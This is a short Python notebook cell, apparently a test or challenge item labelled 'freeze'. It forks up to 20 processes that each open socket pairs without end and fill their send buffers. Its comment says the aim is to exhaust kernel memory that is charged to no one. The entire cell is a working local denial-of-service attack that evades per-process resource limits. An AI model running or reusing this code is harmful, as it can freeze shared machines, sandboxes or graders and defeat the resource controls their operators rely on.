# %% [markdown]
# Fills the buffers of as many sockets as it gets, in many processes: the kernel's memory, which counts as nobody's.
# %% question="freeze"
import os
import socket
import time


def freeze(module):
    for _ in range(20):
        if os.fork() == 0:
            break
    kept = []
    try:
        while True:
            pair = socket.socketpair()
            kept.append(pair)
            for one in pair:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                one.setblocking(False)
                try:
                    while True:
                        one.send(bytes(32_000))
                except BlockingIOError:
                    pass
    except OSError:
        time.sleep(20)
    return module
